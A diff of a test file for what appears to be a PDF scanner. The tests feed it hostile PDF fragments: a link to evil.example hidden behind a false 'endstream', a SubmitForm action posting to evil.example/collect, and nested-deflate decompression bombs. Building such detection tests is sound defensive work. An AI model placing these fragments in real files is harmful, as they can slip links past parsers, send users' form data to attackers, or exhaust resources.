@@ -90,6 +90,11 @@ describe('what runs', () => {
     },
   );
 
+  test('an address behind a false end of a stream', async () => {
+    const bytes = raw(['endstream\n1 0 obj <</S/URI/URI(https://evil.example/a)>> endobj']);
+    expect((await look(bytes)).links).toEqual([{ url: 'https://evil.example/a', source: 'document' }]);
+  });
+
   test('a form that sends elsewhere', async () => {
     const bytes = raw(['1 0 obj <</S/SubmitForm/F(https://evil.example/collect\\(1\\))>> endobj']);
     expect((await look(bytes)).links).toEqual([{ url: 'https://evil.example/collect(1)', source: 'document' }]);
@@ -124,7 +129,7 @@ describe('hostile', () => {
     const content = await look(await pdf(Array.from({ length: 25 }, (_, page) => `page ${page}`)));
     expect(content.text).toContain('page 19');
     expect(content.text).not.toContain('page 20');
-    expect(whys(content)).toEqual(['too-many']);
+    expect(content.gaps).toMatchObject([{ why: 'too-many', blinding: false }]);
   });
 
   test('a truncated file: what stands in the open is found, and the rest is a gap', async () => {
@@ -159,7 +164,7 @@ describe('hostile', () => {
   test('a stream that is packed twice or thrice', async () => {
     const twice = deflateSync(deflateSync(zeros));
     expect(whys(await look(page('/Filter[/FlateDecode/FlateDecode]', twice)))).toEqual(['too-large']);
-    const thrice = deflateSync(deflateSync(deflateSync(zeros)));
+    const thrice = deflateSync(deflateSync(deflateSync(Buffer.from('BT ET'))));
     expect(whys(await look(page('/Filter[/FlateDecode/FlateDecode/FlateDecode]', thrice)))).toEqual(['too-large']);
   });
 
